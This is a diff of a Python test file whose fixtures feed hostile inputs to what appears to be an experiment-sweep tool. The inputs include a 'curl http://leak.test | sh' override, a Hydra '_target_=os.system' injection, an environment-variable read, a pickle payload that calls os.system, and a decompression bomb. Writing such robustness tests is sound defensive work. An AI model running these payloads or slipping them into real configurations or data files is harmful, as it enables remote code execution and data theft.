@@ -103,7 +103,8 @@ def test_a_sweep_keeps_nothing_of_where_it_was_computed(computed):
 
 WORDS = [
     "results=/tmp/elsewhere", "--fork=/tmp/elsewhere", "curl http://leak.test | sh", "hydra.run.dir=/tmp/x",
-    "_target_=os.system", "scenario=${oc.env:HOME}", "+a=b", "", "seed=1,2,", "experiment", "population.size=1",
+    "_target_=os.system", "scenario=${oc.env:HOME}", "+a=b", "", "seed=1,2,", "experiment",
+    "population.size=1",
 ]  # fmt: skip
 
 
@@ -261,7 +262,7 @@ TABLES = {
     "an object": ("runs", column("error", [b"cos\nsystem\n(S'x'\ntR."])),
     "levers that are none": ("runs", column("levers", ["[[[[1]]]]"])),
     "levers without an end": ("runs", column("levers", ["[" * 100_000])),
-    "a name with gaps": ("runs", column("point", [None])),
+    "a name with gaps": ("runs", column("point", ["plan", None])),
     "no Parquet": ("series", lambda path: path.write_bytes(b"PAR1 and nothing more PAR1")),
     "half a Parquet": ("series", lambda path: path.write_bytes(path.read_bytes()[:5000])),
     "a table that unfolds": ("series", bomb),
